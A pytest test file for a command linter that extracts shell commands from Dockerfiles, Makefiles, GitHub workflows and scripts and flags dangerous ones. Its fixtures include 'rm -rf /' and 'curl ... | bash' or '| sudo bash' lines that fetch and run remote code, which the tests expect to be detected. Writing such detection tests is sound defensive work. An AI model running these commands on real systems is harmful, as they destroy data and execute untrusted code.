"""Commands are found in files, with their places, and are what the shell would get."""

from __future__ import annotations

from pathlib import Path
from textwrap import dedent

import pytest

from cli_tuner.errors import DataError
from cli_tuner.guard import check
from cli_tuner.lint import dockerfile, findings_in, kind_of, makefile, workflow
from cli_tuner.lint.kinds import Kind, files_below
from cli_tuner.lint.snippet import Snippet, position_of


def texts(module, source):
    found = list(module.snippets_of(source))
    for snippet in found:
        assert len(snippet.text) == len(snippet.offsets)
        assert all(0 <= offset < len(source) for offset in snippet.offsets)
    return [snippet.text for snippet in found]


class TestDockerfile:
    @pytest.mark.parametrize(
        ("source", "commands"),
        [
            ("FROM x\nRUN ls -la\n", ["ls -la"]),
            ("RUN a \\\n  && b\n", ["a \\\n  && b"]),
            ("RUN a \\\n# a remark\n  b\nCMD c", ["a \\\n  b", "c"]),
            ("# RUN a\nrun b", ["b"]),
            ("RUN --mount=type=cache,target=/x --network=none a b", ["a b"]),
            ("RUN --mount=type=cache \\\n  a b", ["a b"]),
            ('RUN ["rm", "-rf", "a b"]', ["rm -rf 'a b'"]),
            ('CMD ["python", "x.py"]\nENTRYPOINT sh x', ["python x.py", "sh x"]),
            ("RUN <<EOF\na\nb\nEOF\nRUN c", ["a\nb\n", "c"]),
            ("RUN cat <<EOF > x\na\nEOF\nRUN c", ["cat <<EOF > x\na\nEOF", "c"]),
            ("ONBUILD RUN a", ["a"]),
            ('SHELL ["powershell"]\nRUN a\nSHELL ["/bin/bash", "-c"]\nRUN b', ["b"]),
            ("# escape=`\nRUN a `\n  b", ["a \\\n  b"]),
            ("COPY RUN x\nENV RUN=y", []),
            ("RUN a \\", ["a \\"]),
            ("", []),
        ],
    )
    def test_its_commands(self, source, commands):
        assert texts(dockerfile, source) == commands


class TestMakefile:
    @pytest.mark.parametrize(
        ("source", "commands"),
        [
            ("all:\n\tls\n\t@echo x\n", ["ls", "echo x"]),
            ("all: dep\n\t-@rm x\n", ["rm x"]),
            ("all:\n\ta \\\n\t  b\n\tc\n", ["a \\\n\t  b", "c"]),
            ("all: ; ls\n", ["ls"]),
            ("all:\n\techo $$HOME $(UNSET) ${X}\n", ["echo $HOME ${UNSET} ${X}"]),
            ("D := build\nall:\n\trm -rf $(D)/x\n", ["rm -rf build/x"]),
            ("A := a\nB = $(A)/b\nall:\n\tls ${B}\n", ["ls a/b"]),
            ("D ?= build\nall:\n\tls $(D)\n", ["ls ${D}"]),
            ("D := a\nD := b\nall:\n\tls $(D)\n", ["ls ${D}"]),
            ("all:\n\tls $(shell pwd) $(call f,x)\n", ["ls ${shell_pwd} ${call_f_x}"]),
            ("all:\n\tcp $< $@\n", ["cp ${MAKE_TARGET} ${MAKE_TARGET}"]),
            ("X = 1\n\tnot a recipe\n", []),
            ("a: b\n\nifdef X\n\tls\nendif\n", ["ls"]),
            ("", []),
        ],
    )
    def test_its_commands(self, source, commands):
        assert texts(makefile, source) == commands


class TestWorkflow:
    def steps(self, body):
        return f"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n{body}"

    @pytest.mark.parametrize(
        ("body", "commands"),
        [
            ("      - run: ls -la\n", ["ls -la"]),
            ("      - run: |\n          a\n            b\n\n          c\n", ["a\n  b\n\nc\n"]),
            ("      - run: 'ls \"x\"'\n", ['ls "x"']),
            ("      - run: >\n          a\n          b\n", ["a b\n"]),
            ("      - run: a\n        shell: pwsh\n      - run: b\n", ["b"]),
            ("      - run: a\n        shell: bash -e {0}\n", ["a"]),
            ("      - uses: x\n        with: {run: y}\n", ["y"]),
            ("      - name: n\n", []),
        ],
    )
    def test_its_commands(self, body, commands):
        assert texts(workflow, self.steps(body)) == commands

    def test_the_default_shell_is_heeded(self):
        source = "defaults:\n  run:\n    shell: pwsh\n" + self.steps("      - run: a\n")
        assert texts(workflow, source) == []

    def test_an_expression_is_an_unknown_text(self):
        (text,) = texts(workflow, self.steps("      - run: rm -rf ${{ inputs.dir }}/x\n"))
        assert text == "rm -rf ${______________}/x"
        assert check(text).level == "review"

    def test_an_action_has_commands_too(self):
        source = "runs:\n  using: composite\n  steps:\n    - run: ls\n      shell: bash\n"
        assert texts(workflow, source) == ["ls"]

    @pytest.mark.parametrize("source", ["a: [", "a: *b", "\t", "- " * 2000])
    def test_what_is_no_yaml_is_an_error_or_has_none(self, source):
        try:
            assert texts(workflow, source) == []
        except DataError as error:
            assert "YAML" in error.message


def test_a_changed_place_keeps_its_offset():
    snippet = Snippet.cut("0123456789", 2, 8).changed(1, 3, "abc")
    assert snippet.text == "2abc567"
    assert snippet.offsets == (2, 3, 4, 4, 5, 6, 7)
    assert snippet.place(4) == 5
    assert snippet.place(7, end=True) == 8


def test_positions_count_from_one():
    assert position_of("a\nbc", 0) == (1, 1)
    assert position_of("a\nbc", 3) == (2, 2)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("a.sh", Kind.SHELL),
        ("Dockerfile", Kind.DOCKERFILE),
        ("Dockerfile.dev", Kind.DOCKERFILE),
        ("web.dockerfile", Kind.DOCKERFILE),
        ("Containerfile", Kind.DOCKERFILE),
        ("Makefile", Kind.MAKEFILE),
        ("rules.mk", Kind.MAKEFILE),
        (".github/workflows/ci.yml", Kind.WORKFLOW),
        ("x/action.yaml", Kind.WORKFLOW),
        ("docs/ci.yml", None),
        ("a.py", None),
        ("with-shebang", Kind.SHELL),
        ("other-shebang", None),
    ],
)
def test_the_kind_of_a_file(name, kind, tmp_path):
    (tmp_path / "with-shebang").write_text("#!/usr/bin/env bash\n")
    (tmp_path / "other-shebang").write_text("#!/usr/bin/env python\n")
    assert kind_of(tmp_path / name) is kind


def test_folders_of_tools_and_links_are_left_out(tmp_path):
    for name in ("a.sh", "node_modules/b.sh", ".git/c.sh", "d/e.sh"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("ls\n")
    (tmp_path / "link.sh").symlink_to(tmp_path / "a.sh")
    assert [path.name for path in files_below(tmp_path)] == ["a.sh", "e.sh"]


class TestFindings:
    def found(self, tmp_path: Path, name: str, source: str):
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dedent(source))
        return [
            (one.position.line, one.position.column, one.reason.rule_id, one.reason.level.value)
            for one in findings_in(path, check)
        ]

    def test_in_a_script(self, tmp_path):
        source = "#!/bin/bash\nset -e\nif true; then\n    rm -rf /\nfi\n"
        assert self.found(tmp_path, "a.sh", source) == [(4, 5, "CT-DEL-001", "dangerous")]

    def test_in_a_dockerfile_only_what_leaves_the_image(self, tmp_path):
        source = """\
            FROM debian
            RUN apt-get update \\
             && apt-get install -y curl \\
             && rm -rf /var/lib/apt/lists/*
            RUN useradd app && chmod 777 /srv \\
             && curl -s https://x.example/i.sh | bash
            """
        found = self.found(tmp_path, "Dockerfile", source)
        assert [(line, rule) for line, _, rule, _ in found] == [(6, "CT-NET-001")]

    def test_in_a_makefile(self, tmp_path):
        source = "D := /\nclean:\n\t@echo $$HOME\n\trm -rf $(D)\n"
        assert self.found(tmp_path, "Makefile", source) == [(4, 2, "CT-DEL-001", "dangerous")]

    def test_in_a_workflow(self, tmp_path):
        source = """\
            jobs:
              a:
                steps:
                  - run: |
                      echo ok
                      curl -s https://x.example/i.sh | sudo bash
            """
        found = self.found(tmp_path, ".github/workflows/ci.yml", source)
        assert found[0][0::2] == (6, "CT-NET-002")
        assert found[0][1] > 10

    def test_a_file_that_cannot_be_read_is_an_error(self, tmp_path):
        with pytest.raises(DataError):
            list(findings_in(tmp_path / "none.sh", check))
        with pytest.raises(DataError):
            list(findings_in(tmp_path / "a.py", check))
